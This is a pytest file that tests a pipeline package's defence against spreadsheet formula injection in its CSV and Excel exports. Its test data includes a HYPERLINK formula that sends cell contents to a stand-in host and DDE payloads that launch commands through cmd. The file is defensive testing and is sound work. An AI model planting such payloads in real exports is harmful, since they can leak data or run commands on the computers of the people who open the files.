"""Spreadsheet formula injection: every CSV or Excel file the workbench writes is safe to open.

A text cell starting with = + - @ (or a tab or carriage return) would run as a formula in a
spreadsheet; written by the workbench it starts with a quote (CSV) or is stored as quoted text
(Excel). Numbers stay numbers, and so does text that is just a number, such as '-5'.
"""

from __future__ import annotations

import csv
import re
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd

from pipeline_models.present.files import safe_cell, write_csv, write_excel

SRC = Path(__file__).resolve().parents[1] / "src" / "pipeline_models"
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def frame_with_payloads() -> pd.DataFrame:
    n = len(FORMULAS)
    return pd.DataFrame(
        {
            "=header": FORMULAS,  # a header can be a formula too
            "text": pd.array(FORMULAS, dtype="string"),
            "category": pd.Categorical(FORMULAS),
            "mixed": [-5, "-5", "-1,234.50", "=1+1", None, 3.5],
            "amount": [-5.0, -0.01, 0.0, 1e6, float("nan"), -1234.5],
            "count": list(range(-3, n - 3)),
        }
    )


def read_csv_cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_safe_cell_quotes_formulas_and_leaves_numbers():
    for formula in FORMULAS:
        assert safe_cell(formula) == "'" + formula
    for kept in ("-5", "+5", "-1,234.50", "1e-3", "plain", "a=b", -5, -5.0, None):
        assert safe_cell(kept) == kept


def test_write_csv_neutralises_every_text_cell_and_keeps_numbers(tmp_path):
    frame = frame_with_payloads()
    path = write_csv(frame, tmp_path / "table.csv")
    header, *rows = read_csv_cells(path)
    assert header == ["'=header", "text", "category", "mixed", "amount", "count"]
    for row, formula in zip(rows, FORMULAS, strict=True):
        assert row[:3] == ["'" + formula] * 3
    assert [r[3] for r in rows] == ["-5", "-5", "-1,234.50", "'=1+1", "", "3.5"]
    assert [r[4] for r in rows] == ["-5.0", "-0.01", "0.0", "1000000.0", "", "-1234.5"]
    assert [r[5] for r in rows] == ["-3", "-2", "-1", "0", "1", "2"]
    # no cell of the file starts a formula
    for row in [header, *rows]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or re.fullmatch(r"-[\d.,]+", cell), cell
    assert frame["text"].iloc[0] == FORMULAS[0]  # the caller's table is untouched


def test_write_excel_stores_text_as_text_and_numbers_as_numbers(tmp_path):
    frame = frame_with_payloads()
    frame["when"] = pd.to_datetime(["2025-01-05"] * len(frame))
    path = write_excel(frame, tmp_path / "table.xlsx")
    sheet = openpyxl.load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell became a formula"
    header = [c.value for c in next(sheet.iter_rows())]
    assert header[0] == "=header" and sheet["A1"].data_type == "s" and sheet["A1"].quotePrefix
    for r, formula in enumerate(FORMULAS, start=2):
        for column in "ABC":
            cell = sheet[f"{column}{r}"]
            # XML stores a carriage return as a line feed; the text is otherwise as written
            text = formula.replace("\r", "\n")
            assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert [sheet[f"D{r}"].value for r in range(2, 8)] == [-5, "-5", "-1,234.50", "=1+1", None, 3.5]
    assert not sheet["D3"].quotePrefix and sheet["D5"].quotePrefix
    assert [sheet[f"E{r}"].value for r in range(2, 5)] == [-5.0, -0.01, 0.0]
    assert sheet["E2"].data_type == "n" and sheet["G2"].is_date


def test_the_quarantine_file_neutralises_the_export_cells(tmp_path):
    export = tmp_path / "export.csv"
    rows = [
        ["opportunity_id", "created_date", "close_date", "stage", "status", "amount", "product"],
        ["A1", "2025-01-05", "2025-02-10", "Closed Won", "won", "100", "Widget"],
        ["+cmd", "2025-01-05", "2025-02-10", "Closed Won", "won", "-5", FORMULAS[0]],
        ["A3", "2025-01-05", "2025-02-10", "@SUM(1+1)", "lost", "abc", "\t=1+1"],
    ]
    with export.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    quarantine = tmp_path / "quarantine.csv"
    script = Path(sys.executable).with_name("pipeline-reports")
    command = [str(script)] if script.exists() else [sys.executable, "-m", "pipeline_models.cli"]
    done = subprocess.run(
        [*command, "validate", "--export", str(export), "--on-bad-rows", "skip"]
        + ["--quarantine", str(quarantine)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    header, *written = read_csv_cells(quarantine)
    got = [dict(zip(header, row, strict=True)) for row in written]
    assert [r["row"] for r in got] == ["3", "4"]
    assert got[0]["opportunity_id"] == "'+cmd" and got[0]["product"] == "'" + FORMULAS[0]
    assert got[0]["amount"] == "-5"  # a number stays a number
    assert got[1]["stage"] == "'@SUM(1+1)" and got[1]["product"] == "'\t=1+1"


def test_every_file_writer_in_the_package_is_a_safe_one():
    """CSV and Excel files are written only through present.files.write_csv / write_excel.

    The synthetic sample generator is the exception: it writes the synthetic CRM export itself, which has to look like
    a raw export (its labels are generated, never taken from a user's data).
    """
    writers = re.compile(r"\.to_csv\(|\.to_excel\(|csv\.writer\(|csv\.DictWriter\(|Workbook\(")
    found = {
        path.relative_to(SRC).as_posix()
        for path in SRC.rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
    }
    synthetic = {p for p in found if p == "sample.py" or p.startswith("data/synthetic/")}
    assert found - synthetic == {"present/files.py"}
    for module in ("run/runner.py", "cli.py"):
        text = (SRC / module).read_text(encoding="utf-8")
        assert "write_csv(result.quarantine" in text, module
